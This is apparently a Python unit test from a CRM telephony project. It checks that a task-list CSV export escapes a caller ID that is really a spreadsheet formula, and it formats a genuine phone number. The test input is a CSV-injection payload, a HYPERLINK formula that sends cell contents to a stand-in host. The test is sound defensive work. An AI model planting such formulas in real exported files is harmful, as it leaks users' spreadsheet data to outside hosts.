"""The task list's CSV cells (pure): a callback's number that is no phone number stays text."""

from __future__ import annotations

from datetime import UTC, datetime

from crmtel.i18n import Translator
from crmtel.store.crm_tasks import TaskItem
from crmtel.tasks.export import rows

RU = Translator.for_locale("ru", zone="Europe/Moscow")
NOW = datetime(2026, 12, 6, 12, 0, tzinfo=UTC)


def _task(phone: str) -> TaskItem:
    return TaskItem(
        id=1,
        kind="callback",
        title="Перезвонить",
        note=None,
        phone=phone,
        status="open",
        source="missed",
        missed_count=1,
        due_at=NOW,
        created_at=NOW,
        done_at=None,
        result=None,
        closed_by_call=None,
        closed_by_call_id=None,
        closed_by_call_talk=None,
        closed_by_call_started=None,
        manager_id=None,
        manager_name=None,
        party_kind=None,
        party_id=None,
        party_name=None,
    )


def test_a_callback_to_a_caller_id_that_is_no_number_is_written_as_text() -> None:
    """A missed call's caller ID is whatever the caller's network sent (kept raw when it does not parse); the
    callback's «number» ``=HYPERLINK(…)`` reaches the file as text, a real number as people write it."""
    (_head, evil) = rows([_task('=HYPERLINK("http://x/?"&A1,"y")')], NOW, RU, "RU")
    assert evil[4] == '\'=HYPERLINK("http://x/?"&A1,"y")'
    (_head, real) = rows([_task("+79167770007")], NOW, RU, "RU")
    assert real[4] == "+7 916 777-00-07"
